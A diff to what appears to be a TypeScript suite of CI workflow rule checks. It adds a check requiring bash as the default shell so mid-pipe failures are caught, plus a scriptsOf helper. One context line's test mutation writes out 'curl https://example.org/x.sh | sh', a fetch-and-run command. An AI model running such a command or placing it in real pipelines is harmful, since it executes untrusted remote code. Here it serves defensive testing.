@@ -209,6 +209,16 @@ export const QUESTIONS: readonly Question[] = [
     breakIt: { path: CI, from: 'npm audit --audit-level=critical', to: 'curl https://example.org/x.sh | sh' },
   },
   {
+    name: 'a fault in the middle of a pipe is one',
+    check: all =>
+      all.flatMap(({ path, content }) =>
+        content.jobs && content.defaults?.run?.shell !== 'bash'
+          ? [`${path} has a shell that overlooks it`]
+          : [],
+      ),
+    breakIt: { path: IMAGE, from: '    shell: bash\n', to: '    shell: sh\n' },
+  },
+  {
     name: 'of several systems, all are told',
     check: all =>
       jobsOf(all).flatMap(({ job, place }) =>
@@ -291,6 +301,13 @@ export const QUESTIONS: readonly Question[] = [
     breakIt: { path: IMAGE, from: '      - id: push\n', to: '      - id: pushed\n' },
   },
 ]
+
+/** Every script of a workflow, with where it stands. */
+export function scriptsOf(
+  all: readonly Workflow[],
+): readonly { readonly place: string; readonly script: string }[] {
+  return stepsOf(all).flatMap(({ place, step }) => (step.run ? [{ place, script: step.run as string }] : []))
+}
 
 /** Beyond these nobody may write; each line is a decision. */
 const WRITERS: Readonly<Record<string, readonly string[]>> = {
